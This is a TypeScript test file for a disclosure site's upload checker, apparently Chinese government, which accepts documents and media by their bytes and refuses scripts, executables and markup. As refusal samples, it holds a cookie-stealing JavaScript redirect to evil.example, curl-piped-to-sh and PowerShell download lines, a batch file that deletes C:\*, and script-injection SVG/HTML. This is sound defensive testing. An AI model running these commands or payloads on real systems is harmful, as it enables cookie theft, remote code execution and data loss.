import { mkdtempSync, rmSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import path from 'path';
import {
  bytesSource,
  checkFile,
  detectKind,
  withFileSource,
  type ByteSource,
  type FileVerdict,
} from '../../src/plugins/disclosure/server/src/uploads/rules/file-kinds';
import * as sample from '../harness/sample-files';

const check = (name: string, bytes: Buffer, servedExtension?: string) =>
  checkFile(bytesSource(bytes), name, servedExtension);
const refusal = (verdict: FileVerdict) => (verdict.accepted === false ? verdict.message : null);

describe('what a disclosure site publishes is recognised from its bytes', () => {
  test.each([
    ['年度报告.pdf', 'pdf', 'application/pdf', () => sample.pdf()],
    ['公文.ofd', 'ofd', 'application/ofd', () => sample.ofd()],
    [
      '通知.docx',
      'docx',
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
      () => sample.docx(),
    ],
    [
      '预算表.xlsx',
      'xlsx',
      'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
      () => sample.xlsx(),
    ],
    [
      '汇报.pptx',
      'pptx',
      'application/vnd.openxmlformats-officedocument.presentationml.presentation',
      () => sample.pptx(),
    ],
    ['旧稿.doc', 'ole2', 'application/msword', () => sample.ole2()],
    ['旧表.xls', 'ole2', 'application/vnd.ms-excel', () => sample.ole2({ stream: 'Workbook' })],
    [
      '旧演示.ppt',
      'ole2',
      'application/vnd.ms-powerpoint',
      () => sample.ole2({ stream: 'PowerPoint Document' }),
    ],
    ['金山文字.wps', 'ole2', 'application/octet-stream', () => sample.ole2()],
    ['金山表格.et', 'ole2', 'application/octet-stream', () => sample.ole2({ stream: 'Workbook' })],
    [
      '金山演示.dps',
      'ole2',
      'application/octet-stream',
      () => sample.ole2({ stream: 'PowerPoint Document' }),
    ],
    ['文本.odt', 'odt', 'application/vnd.oasis.opendocument.text', () => sample.odf()],
    [
      '表格.ods',
      'ods',
      'application/vnd.oasis.opendocument.spreadsheet',
      () => sample.odf('application/vnd.oasis.opendocument.spreadsheet'),
    ],
    [
      '演示.odp',
      'odp',
      'application/vnd.oasis.opendocument.presentation',
      () => sample.odf('application/vnd.oasis.opendocument.presentation'),
    ],
    ['现场.jpg', 'jpeg', 'image/jpeg', () => sample.jpeg()],
    ['现场.JPEG', 'jpeg', 'image/jpeg', () => sample.jpeg()],
    ['图解.png', 'png', 'image/png', () => sample.png()],
    ['动图.gif', 'gif', 'image/gif', () => sample.gif()],
    ['图.webp', 'webp', 'image/webp', () => sample.webp()],
    ['扫描件.tif', 'tiff', 'image/tiff', () => sample.tiff()],
    ['位图.bmp', 'bmp', 'image/bmp', () => sample.bmp()],
    ['图.avif', 'avif', 'image/avif', () => sample.avif()],
    ['附件.zip', 'zip', 'application/zip', () => sample.zip([['说明.txt', '附件说明']])],
    ['空.zip', 'zip', 'application/zip', () => sample.zip([])],
    ['附件.rar', 'rar', 'application/vnd.rar', () => sample.rar()],
    ['附件.7z', '7z', 'application/x-7z-compressed', () => sample.sevenZip()],
    ['数据.tar.gz', 'gzip', 'application/gzip', () => sample.gzip()],
    ['数据.tgz', 'gzip', 'application/gzip', () => sample.gzip()],
    ['录音.mp3', 'mp3', 'audio/mpeg', () => sample.mp3()],
    ['无标签.mp3', 'mp3', 'audio/mpeg', () => sample.mp3({ id3: false })],
    ['录音.aac', 'aac', 'audio/aac', () => sample.aac()],
    ['录音.wav', 'wav', 'audio/wav', () => sample.wav()],
    ['录音.ogg', 'ogg', 'audio/ogg', () => sample.ogg()],
    ['录音.flac', 'flac', 'audio/flac', () => sample.flac()],
    ['录音.m4a', 'mp4', 'audio/mp4', () => sample.isoMedia('M4A ', ['M4A ', 'mp42', 'isom'])],
    ['发布会.mp4', 'mp4', 'video/mp4', () => sample.isoMedia()],
    ['发布会.mov', 'mp4', 'video/quicktime', () => sample.isoMedia('qt  ', ['qt  '])],
    ['发布会.webm', 'webm', 'video/webm', () => sample.matroska('webm')],
    ['发布会.mkv', 'mkv', 'video/x-matroska', () => sample.matroska('matroska')],
    ['发布会.avi', 'avi', 'video/x-msvideo', () => sample.avi()],
    ['旧视频.flv', 'flv', 'video/x-flv', () => sample.flv()],
    ['旧视频.wmv', 'asf', 'video/x-ms-wmv', () => sample.asf()],
  ])('%s: %s, stored as %s', async (name, kind, mime, build) => {
    const bytes = await build();
    expect(await check(name, bytes)).toEqual({
      accepted: true,
      kind,
      mime,
      extension: path.extname(name).toLowerCase(),
    });
  });

  test('a name without an extension gets its kind’s', async () => {
    expect(await check('附件一', sample.pdf())).toEqual({
      accepted: true,
      kind: 'pdf',
      mime: 'application/pdf',
      extension: '.pdf',
    });
  });
});

describe('everything else is refused, naming the file and what is accepted', () => {
  const NOT_ACCEPTED =
    /^不允许上传该类型的文件：(.+)（仅接受 PDF、OFD、Office\/WPS 文档、图片、压缩包、音频和视频） \(file type not accepted: \1; only PDF, OFD, Office\/WPS documents, images, archives, audio and video are\)$/;

  test.each([
    ['prefixed XHTML (<x:script>)', 'page.xhtml', () => sample.prefixedXhtml()],
    ['prefixed XHTML named .xml', 'data.xml', () => sample.prefixedXhtml()],
    ['markup after the first kilobyte', 'report.txt', () => sample.markupAfterFirstKilobyte()],
    [
      'an XML data file (application/xml)',
      'catalogue.xml',
      () => Buffer.from('<?xml version="1.0"?><catalogue><item>政策</item></catalogue>'),
    ],
    [
      'an ECMAScript file (.ecma)',
      'app.ecma',
      () => Buffer.from('fetch("/admin/users").then((r) => r.json())'),
    ],
    [
      'an ECMAScript file (.es)',
      'app.es',
      () => Buffer.from('export default () => fetch("/admin/users")'),
    ],
    [
      'a JavaScript file',
      'app.js',
      () => Buffer.from('document.location = "https://evil.example/?" + document.cookie'),
    ],
    [
      'an SVG',
      'logo.svg',
      () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ],
    [
      'an SVG behind an XML declaration and a comment',
      'logo.svg',
      () =>
        Buffer.from(
          '<?xml version="1.0"?>\n<!-- drawn -->\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
        ),
    ],
    [
      'an HTML page',
      'notice.html',
      () => Buffer.from('<!doctype html><html><script>alert(1)</script></html>'),
    ],
    [
      'an HTML page in UTF-16',
      'notice.htm',
      () =>
        Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from('<html><script>alert(1)</script></html>', 'utf16le'),
        ]),
    ],
    [
      'an HTML page named as a PDF',
      'report.pdf',
      () => Buffer.from('<html><body onload="alert(1)">年度报告</body></html>'),
    ],
    ['a Windows executable', 'setup.exe', () => sample.windowsExecutable()],
    ['a Windows executable named as a document', 'report.doc', () => sample.windowsExecutable()],
    ['a Linux executable (ELF)', 'tool', () => sample.elfExecutable()],
    [
      'a shell script (shebang)',
      'install.sh',
      () => Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
    ],
    ['a batch file', 'run.bat', () => Buffer.from('@echo off\r\ndel /q C:\\*\r\n')],
    [
      'a PowerShell script',
      'run.ps1',
      () => Buffer.from('Invoke-WebRequest https://evil.example -OutFile x.exe'),
    ],
    ['plain text', '说明.txt', () => Buffer.from('政府信息公开工作年度报告\n')],
    ['an empty file', 'empty.pdf', () => Buffer.alloc(0)],
    ['a Java archive', 'tool.zip', () => sample.jar()],
    ['a macro-enabled Word document', '通知.docx', () => sample.docx({ macros: true })],
    [
      'a Windows Installer package (OLE2)',
      '安装.doc',
      () => sample.ole2({ installer: true, stream: '\u0005SummaryInformation' }),
    ],
    ['a HEIF photo (could not be cleaned of its GPS data)', 'photo.heic', () => sample.heic()],
    ['a ZIP cut short (no central directory)', 'cut.zip', () => sample.docx().subarray(0, 200)],
    [
      'a page that ends with a ZIP',
      'page.zip',
      () =>
        Buffer.concat([
          Buffer.from('<html><script>alert(1)</script></html>'),
          sample.zip([['a.txt', 'a']]),
        ]),
    ],
    [
      'text that happens to spell ftyp',
      'clip.mp4',
      () => Buffer.from('<b>xftypisom<script>alert(1)</script>'),
    ],
    [
      'a text starting with BM',
      'notes.bmp',
      () => Buffer.from('BMW 公务用车采购公告，共 3 辆。'.repeat(4)),
    ],
  ])('%s (%s)', async (_what, name, build) => {
    const verdict = await check(name, build());
    expect(refusal(verdict)).toMatch(NOT_ACCEPTED);
    expect(refusal(verdict)).toContain(`：${name}（`);
  });
});

describe('the extension must be the kind’s, since the file is served by it', () => {
  test('a PDF named .html: refused, naming the extension to use', async () => {
    expect(refusal(await check('report.html', sample.pdf()))).toBe(
      '文件内容为 PDF 文档，与扩展名 .html 不符：report.html，请改用 .pdf 扩展名后再上传 (the content of report.html is a PDF document, not what its extension .html says: name it .pdf)'
    );
  });

  test.each([
    [
      'a PNG named .jpg',
      '照片.jpg',
      () => sample.png(),
      /^文件内容为 PNG 图片，与扩展名 \.jpg 不符/,
    ],
    [
      'a Word document named .xlsx',
      '表.xlsx',
      () => Promise.resolve(sample.docx()),
      /^文件内容为 Word 文档，与扩展名 \.xlsx 不符/,
    ],
    [
      'an OFD named .zip',
      '公文.zip',
      () => Promise.resolve(sample.ofd()),
      /^文件内容为 OFD 版式文档，与扩展名 \.zip 不符/,
    ],
    [
      'a ZIP named .docx',
      '通知.docx',
      () => Promise.resolve(sample.zip([['a.txt', 'a']])),
      /^文件内容为 ZIP 压缩包，与扩展名 \.docx 不符/,
    ],
    [
      'a PDF named .pdf.exe',
      'report.pdf.exe',
      () => Promise.resolve(sample.pdf()),
      /与扩展名 \.exe 不符/,
    ],
    [
      'an MP3 named .js',
      'track.js',
      () => Promise.resolve(sample.mp3()),
      /^文件内容为 MP3 音频，与扩展名 \.js 不符/,
    ],
  ])('%s', async (_what, name, build, message) => {
    expect(refusal(await check(name, await build()))).toMatch(message);
  });

  test('a replacement keeps the replaced file’s extension: the content must suit it', async () => {
    expect(await check('新版.pdf', sample.pdf(), '.pdf')).toMatchObject({
      accepted: true,
      extension: '.pdf',
      mime: 'application/pdf',
    });
    expect(await check('新版.xls', sample.ole2(), '.doc')).toMatchObject({
      accepted: true,
      extension: '.doc',
      mime: 'application/msword',
    });
    expect(refusal(await check('新版.png', await sample.png(), '.pdf'))).toBe(
      "替换的文件须与原文件格式相同：原文件扩展名为 .pdf，新版.png 的内容为 PNG 图片 (a replacement keeps the replaced file's address and extension .pdf; 新版.png is a PNG image)"
    );
  });
});

describe('only what is needed is read', () => {
  /** A source that counts the bytes read. */
  const counted = (bytes: Buffer) => {
    const inner = bytesSource(bytes);
    const source: ByteSource & { bytesRead: number } = {
      size: inner.size,
      bytesRead: 0,
      read: async (position, length) => {
        const chunk = await inner.read(position, length);
        source.bytesRead += chunk.length;
        return chunk;
      },
    };
    return source;
  };

  test('a 20 MB video: its first 4 KB', async () => {
    const video = Buffer.concat([sample.isoMedia(), Buffer.alloc(20 * 1024 * 1024)]);
    const source = counted(video);
    expect(await detectKind(source)).toBe('mp4');
    expect(source.bytesRead).toBeLessThanOrEqual(4096);
  });

  test('a 20 MB ZIP: its first 4 KB, the end record and the central directory', async () => {
    const archive = sample.zip([
      ['大文件.bin', Buffer.alloc(20 * 1024 * 1024), { stored: true }],
      ['说明.txt', '说明'],
    ]);
    const source = counted(archive);
    expect(await detectKind(source)).toBe('zip');
    expect(source.bytesRead).toBeLessThan(4096 + 70 * 1024);
  });

  test('from a file on disk, as uploads arrive', async () => {
    const directory = mkdtempSync(path.join(tmpdir(), 'file-kinds-'));
    try {
      const file = path.join(directory, 'upload');
      writeFileSync(file, sample.ofd());
      expect(await withFileSource(file, (source) => checkFile(source, '公文.ofd'))).toMatchObject({
        accepted: true,
        kind: 'ofd',
      });
    } finally {
      rmSync(directory, { recursive: true, force: true });
    }
  });
});
